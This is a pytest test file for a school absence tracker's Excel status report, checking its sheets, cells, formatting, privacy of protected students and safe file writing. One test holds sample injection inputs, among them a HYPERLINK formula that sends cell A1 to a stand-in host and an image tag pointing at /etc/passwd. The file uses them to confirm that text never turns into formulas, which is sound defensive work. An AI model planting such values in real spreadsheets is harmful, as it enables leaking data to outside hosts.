"""The status report, opened again: its sheets, its cells, its looks, and that text stays text."""

from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from gf2tracker.actions import contact, demo, enrolment, followup, school, students
from gf2tracker.domain.contact import ContactKind
from gf2tracker.domain.people import LeaveReason
from gf2tracker.errors import Refusal
from gf2tracker.queries import status
from gf2tracker.queries import students as student_list
from gf2tracker.reports.status import Report, proposed_name, write_each, write_status
from tests import given
from tests.registers import mark, take_day
from tests.reports.openings import cells_of, rows_of

MON, TUE, WED = (date(2026, 8, 10) + timedelta(at) for at in range(3))
TODAY = date(2026, 8, 21)
DEMO_DAY = date(2026, 11, 19)
MADE_BY = "Mette Kragh (MEKR)"
SHEETS = [
    "Overblik",
    "Elever",
    "Fravær",
    "Makkere og grupper",
    "Aktiviteter",
    "Opfølgning",
    "Om rapporten",
]
EVIL = (
    'Bo<img src="file:///etc/passwd">',
    '=HYPERLINK("http://x.example/"&A1;"klik")',
    "+4515420788",
    "-2+3",
    "@SUM(A1)",
    "Bo _x0041_ &amp; </c>",
    "#REF!",
)


def answer(store, class_ids=None, today=TODAY):
    return store.ask(status.status, class_ids, today).value


def write(store, target, class_ids=None, today=TODAY):
    told = answer(store, class_ids, today)
    return write_status(told, target, made_by=MADE_BY, today=today)


@pytest.fixture
def tom(sqlite_store):
    """A class of three: the first away on Monday, the second late, and the third has left."""
    made = given.a_class(sqlite_store, students=3)
    first, second, third = made.students
    mark(sqlite_store, made.id, TUE, {(second, 1): "F9"})
    take_day(sqlite_store, made.id, MON, {first: "U"})
    take_day(sqlite_store, made.id, TUE)
    when = datetime(2026, 8, 10, 10, 0, tzinfo=UTC)
    sqlite_store.do(contact.log, first, ContactKind.TALKED, when, handled_until=TUE)
    for who, number in zip(made.students, ("001", "47", "A-3"), strict=True):
        sqlite_store.do(students.change, who, {"number": number})
    left = sqlite_store.ask(student_list.one, third, TODAY).value.enrolments[-1].id
    sqlite_store.do(enrolment.leave, left, TUE, LeaveReason.GOT_JOB)
    return made


@pytest.fixture
def report(sqlite_store, tom, tmp_path):
    write(sqlite_store, tmp_path / "status.xlsx")
    return tmp_path / "status.xlsx"


def test_the_answer_says_what_was_written(sqlite_store, tom, tmp_path):
    target = tmp_path / "status.xlsx"
    done = write(sqlite_store, target)
    assert done == Report(target, tuple(SHEETS), 3)
    assert load_workbook(target).sheetnames == SHEETS


def test_the_overview_has_a_row_for_the_class(report):
    headings, row = rows_of(report, "Overblik")[4:6]
    told = dict(zip(headings, row, strict=True))
    share = pytest.approx((8 * 45 + 9) / (48 * 45))
    assert told == {
        "Status": "gør noget",
        "Hold": "tøm-26a",
        "Uddannelse": "Tømrer",
        "Afdeling": "Ballerup",
        "Kontaktlærer": "Mette Kragh (MEKR)",
        "Uge": 2,
        "Fase": "1 Stærk opstart",
        "Elever": 2,
        "Protokol ført": pytest.approx(16 / 69),
        "Fravær": share,
        "Heraf ulovligt": share,
        "Seneste 4 uger": share,
        "Denne uge": None,
        "Ugen før": share,
        "Elever over 10\xa0%": 1,
        "Heraf over 15\xa0%": 1,
        "Fravær i de første 14 dage": 1,
        "Venter på nogen": 1,
        "Stoppet": 1,
        "Heraf frafald": 1,
        "Heraf omvalg": 0,
        "Heraf skoleskift": 0,
        "Regnes ikke med": 0,
        "Hvorfor": "fravær over 15\xa0%, 53 lektioner uden protokol",
    }


def test_the_students_sheet_has_a_row_for_each(report):
    headings, *rows = rows_of(report, "Elever")[3:]
    told = [dict(zip(headings, row, strict=True)) for row in rows]
    names = [one["Navn"] for one in told]
    assert names == ["Birgitte Maria Ågård", "Aage Ørsted Kjær", "Çelik Yılmaz"]
    birgitte, aage, celik = told
    assert (aage["Status"], aage["Hvorfor"]) == ("gør noget", "højt fravær")
    assert (birgitte["Status"], birgitte["Hvorfor"]) == ("i orden", None)
    assert (aage["Elevnr."], birgitte["Elevnr."], celik["Elevnr."]) == ("001", 47, "A-3")
    assert (aage["Fravær"], birgitte["Fravær"]) == (0.5, 9 / 720)
    assert (aage["Fraværs- dage"], aage["Perioder"], birgitte["For sent"]) == (1, 1, 1)
    assert (aage["De første 14 dage"], aage["Fraværsdage i de første 14 dage"]) == (1, "10.08.")
    assert (aage["Seneste kontakt"].date(), aage["Kontakt"]) == (MON, "talte med (abc)")
    assert (celik["Status"], celik["Sidste dag"].date()) == ("udmeldt", TUE)
    assert (celik["Stoppet fordi"], celik["Tæller som"]) == ("fået job", "frafald")
    assert (aage["Heraf syg"], aage["Delvise dage"], aage["Længste periode"]) == (0, 0, 1)
    assert aage["Ugedag, der skiller sig ud"] is None
    assert (aage["Åbne signaler"], birgitte["Åbne signaler"], celik["Åbne signaler"]) == (
        1,
        0,
        None,
    )
    assert aage["Første dag"].date() == MON


def test_the_followup_sheet_says_why_who_and_what_next(sqlite_store, tom, tmp_path):
    jens = given.a_teacher(sqlite_store, "JEHO", "Jens Holst")
    sqlite_store.do(followup.assign, [tom.students[0]], jens)
    sqlite_store.do(followup.plan_next, tom.students[0], "Samtale om bussen", date(2026, 8, 24))
    target = tmp_path / "status.xlsx"
    write(sqlite_store, target)
    rows = rows_of(target, "Opfølgning")
    assert rows[1][0].endswith("hele skolen, 1 hold · 1 elev venter")
    told = dict(zip(rows[3], rows[4], strict=True))
    assert told["Hvorfor"].startswith("Fravær 50,0\xa0%, grænsen er 15\xa0%")
    assert (told["Status"], told["Navn"]) == ("gør noget", "Aage Ørsted Kjær")
    assert (told["Ansvarlig"], told["Næste skridt"]) == ("Jens Holst", "Samtale om bussen")
    assert told["Hvornår"].date() == date(2026, 8, 24)
    assert (told["Seneste kontakt"].date(), told["Kontakt"]) == (MON, "talte med (abc)")
    assert rows[7][0] == "Hold, hvor protokollen mangler"
    assert rows[9][:2] == ["hold øje", "tøm-26a"]


def test_a_file_for_each_class_lies_beside_the_whole(sqlite_store, tom, tmp_path):
    given.a_class(sqlite_store, "el-26a", students=2)
    told, steps = answer(sqlite_store), []
    made = write_each(
        told,
        tmp_path / "alt.xlsx",
        made_by=MADE_BY,
        today=TODAY,
        progress=lambda *step: steps.append(step),
    )
    names = ["alt.xlsx", "gf2-status-el-26a-2026-08-21.xlsx", "gf2-status-tøm-26a-2026-08-21.xlsx"]
    assert [one.file.name for one in made] == names
    assert [one.students for one in made] == [5, 2, 3]
    assert sorted(file.name for file in tmp_path.iterdir() if file.suffix) == sorted(names)
    assert (steps[0][:2], steps[-1][:2]) == ((0, 3), (2, 3))
    assert [row[2] for row in rows_of(made[2].file, "Opfølgning")[4:5]] == ["Aage Ørsted Kjær"]
    assert rows_of(made[1].file, "Opfølgning")[4][2] is None


def test_the_absence_sheet_has_a_sign_for_each_day(report):
    rows = rows_of(report, "Fravær")
    assert rows[4][:2] == ["tøm-26a", "Tømrer · MEKR"]
    assert rows[4][4] == "uge 33 · 10.08."
    assert [day.date() for day in rows[5][4:7]] == [MON, TUE, WED]
    birgitte, aage, celik = rows[6:9]
    assert aage[4:8] == ["U", "·", "○", "○"]
    assert birgitte[4:8] == ["·", "f", "○", "○"]
    assert celik[4:8] == ["·", "·", None, None]
    assert aage[13] is None  # today is not taken yet


def test_who_made_it_and_for_which_day_is_told(report):
    told = {row[0]: row[1] for row in rows_of(report, "Om rapporten")}
    assert told["Lavet af"] == MADE_BY
    assert told["Til og med"].date() == TODAY
    assert told["Hold"] == "tøm-26a"
    assert told["Elever på holdene (n)"] == 2
    assert told["Førte elevlektioner"] == 48


def test_a_young_course_is_not_made_tiny_by_the_width_of_its_legend(report):
    sheet = load_workbook(report)["Fravær"]
    groups = sheet.column_dimensions.values()
    told = {column for group in groups for column in range(group.min, group.max + 1)}
    assert told >= set(range(1, sheet.max_column + 1))


def test_the_sheets_are_tables_with_frozen_headings_and_print_well(report):
    book = load_workbook(report)
    tables = [table for sheet in book.worksheets for table in sheet.tables.values()]
    assert len({table.displayName for table in tables}) == len(tables) == 7
    for sheet in book.worksheets:
        for table in sheet.tables.values():
            headings = [cell.value for cell in sheet[table.ref][0]]
            assert headings == [column.name for column in table.tableColumns]
            assert len({str(heading).casefold() for heading in headings}) == len(headings)
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.paperSize == 9
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.oddHeader.right.text == "Fortroligt"
        assert sheet.oddFooter.right.text == "Side &P af &N"
    frozen = [book[name].freeze_panes for name in SHEETS[:6]]
    assert frozen == ["C6", "D5", "E5", "E5", "D5", "D5"]
    assert book["Elever"].print_title_rows == "$4:$4"
    assert book["Fravær"].auto_filter.ref.startswith("A4:D")
    assert len(book["Overblik"]._charts) == 1


def test_shares_are_flagged_by_symbol_and_colour(report):
    rules = [
        rule
        for place in load_workbook(report)["Elever"].conditional_formatting
        for rule in place.rules
    ]
    formats = {rule.dxf.numFmt.formatCode for rule in rules}
    assert {'"◆ "0.0" "%', '"▲ "0.0" "%'} <= formats
    loud = [rule for rule in rules if "●" not in rule.dxf.numFmt.formatCode]
    assert all(rule.dxf.fill is not None and rule.dxf.font.b for rule in loud)


@pytest.mark.parametrize("name", ["Overblik", "Elever", "Opfølgning"])
def test_states_are_words_flagged_by_symbol_and_colour(report, name):
    sheet = load_workbook(report)[name]
    of_column = [
        place for place in sheet.conditional_formatting if str(place.sqref).startswith("A")
    ]
    assert of_column
    for place in of_column:
        corner = str(place.sqref).split(":")[0]
        told = {rule.formula[0]: rule.dxf.numFmt.formatCode for rule in place.rules}
        assert told == {
            f'{corner}="gør noget"': '"◆ "@',
            f'{corner}="hold øje"': '"▲ "@',
            f'{corner}="i orden"': '"● "@',
        }
        assert sheet[corner].fill.fill_type is None  # the colour is the rule's alone
        assert sheet[corner].value in {"gør noget", "hold øje", "i orden"}


def test_a_limit_with_a_decimal_is_told_with_it(sqlite_store, tom, tmp_path):
    sqlite_store.do(school.set_settings, {"watch_share": 0.125})
    path = tmp_path / "status.xlsx"
    write(sqlite_store, path)
    assert "Elever over 12,5\u00a0%" in [cell.value for _name, cell in cells_of(path)]


def test_properties_say_what_it_is(report):
    properties = load_workbook(report).properties
    assert properties.creator == MADE_BY
    assert properties.title == "Status for Skolen, fredag 21.08.2026, uge 34"


def test_the_class_leads_to_its_days(report):
    link = load_workbook(report)["Overblik"]["B6"].hyperlink
    assert (link.location, link.target) == ("'Fravær'!A5", None)


def test_text_never_becomes_a_formula(sqlite_store, tmp_path):
    made = given.a_class(sqlite_store, "=1+1")
    for number, name in enumerate(EVIL):
        given.student(sqlite_store, f"{name} X{number}", made.id)
    write(sqlite_store, tmp_path / "evil.xlsx")
    cells = list(cells_of(tmp_path / "evil.xlsx"))
    assert not [cell for _sheet, cell in cells if cell.data_type in {"f", "e"}]
    names = [cell for sheet, cell in cells if sheet == "Elever" and cell.column == 3]
    shown = {cell.value for cell in names}
    for number, name in enumerate(EVIL):
        assert f"{name} X{number}".replace("_x0041_", "_x005F_x0041_") in shown
    risky = [cell for cell in names if cell.value[0] in "=+-@"]
    assert len(risky) == 4
    assert all(cell.quotePrefix for cell in risky)


def test_protected_students_have_no_surname(sqlite_store, tom, tmp_path):
    sqlite_store.do(
        students.change, tom.students[1], {"is_protected": True, "phone": "15 99 88 77"}
    )
    write(sqlite_store, tmp_path / "status.xlsx")
    texts = [str(cell.value) for _sheet, cell in cells_of(tmp_path / "status.xlsx")]
    assert "Birgitte (beskyttet)" in texts
    assert not [text for text in texts if "Ågård" in text or "15 99" in text or "15 42" in text]


def test_the_whole_demo_school_is_one_row_a_class_and_a_student(sqlite_store, tmp_path):
    done = sqlite_store.do(demo.build, DEMO_DAY, 4)
    target = tmp_path / "demo.xlsx"
    told = write(sqlite_store, target, today=DEMO_DAY)
    assert told.students == done.value.students
    overview = rows_of(target, "Overblik")
    assert overview[0][0] == "Status for Fjordbyens Erhvervsskole (demoskole)"
    assert [row[1] for row in overview[5:9]] == ["auto-26a", "el-26a", "tøm-26a", "vvs-26a"]
    assert (overview[9][0], overview[9][6]) == ("I alt", "4 hold")
    assert overview[9][7] == sum(row[7] for row in overview[5:9])
    assert len(rows_of(target, "Elever")) == 4 + told.students
    assert len(load_workbook(target)["Overblik"]._charts) == 2
    signs = {row[column] for row in rows_of(target, "Fravær", 7) for column in range(4, 74)}
    assert {"U", "u", "S", "f", "K", "·", "/", "?"} <= signs


def test_a_class_without_students_or_register_can_be_reported(sqlite_store, tmp_path):
    given.a_class(sqlite_store, starts_on=date(2026, 10, 5))
    told = write(sqlite_store, tmp_path / "status.xlsx")
    assert told.students == 0
    overview = rows_of(tmp_path / "status.xlsx", "Overblik")
    assert overview[2][0] == "Ingen protokoller er ført endnu."
    assert overview[5][0] == "kommer"
    assert overview[5][6] == "begynder 05.10.2026"
    assert overview[5][9] is None


def test_progress_is_told_class_by_class(sqlite_store, tmp_path):
    sqlite_store.do(demo.build, DEMO_DAY, 3)
    seen = []
    told = answer(sqlite_store, today=DEMO_DAY)
    write_status(
        told,
        tmp_path / "demo.xlsx",
        made_by="",
        today=DEMO_DAY,
        progress=lambda *how_far: seen.append(how_far),
    )
    assert seen[:3] == [(0, 3, "el-26a"), (1, 3, "tøm-26a"), (2, 3, "vvs-26a")]
    assert seen[3:] == [(3, 3, "Gemmer demo.xlsx")] * 2


class GivenUp(Exception):
    pass


@pytest.mark.parametrize("at", [0, 1, 2])
def test_giving_up_leaves_no_draft_and_the_old_file_as_it_was(sqlite_store, tmp_path, at):
    sqlite_store.do(demo.build, DEMO_DAY, 2)
    target = tmp_path / "status.xlsx"
    target.write_bytes(b"old")

    def give_up(done, of, text):
        if done == at:
            raise GivenUp

    told = answer(sqlite_store, today=DEMO_DAY)
    with pytest.raises(GivenUp):
        write_status(told, target, made_by="", today=DEMO_DAY, progress=give_up)
    assert target.read_bytes() == b"old"
    assert [one.name for one in tmp_path.iterdir() if one.is_file()] == ["status.xlsx"]


def test_an_impossible_target_is_refused_before_any_work(sqlite_store, tom, tmp_path):
    told = answer(sqlite_store)
    with pytest.raises(Refusal, match=r"slutte på \.xlsx"):
        write_status(told, tmp_path / "status.xls", made_by="", today=TODAY)


def test_the_proposed_name_names_no_person(sqlite_store, tom):
    assert proposed_name(answer(sqlite_store)) == "gf2-status-2026-08-21.xlsx"
    assert proposed_name(answer(sqlite_store, [tom.id])) == "gf2-status-tøm-26a-2026-08-21.xlsx"


def test_what_stands_out_in_the_overview_is_the_state_here_too(sqlite_store, tmp_path):
    made = given.a_class(sqlite_store, students=1)
    days = [MON + timedelta(weeks=n // 5, days=n % 5) for n in range(35)]
    for at, day in enumerate(days):
        take_day(sqlite_store, made.id, day, {made.students[0]: "S"} if at in {20, 25, 30} else {})
    target = tmp_path / "status.xlsx"
    write(sqlite_store, target, today=days[-1])
    headings, row = rows_of(target, "Elever")[3:5]
    told = dict(zip(headings, row, strict=True))
    assert (told["Status"], told["Hvorfor"]) == ("hold øje", "3 perioder, senest 21.09.")
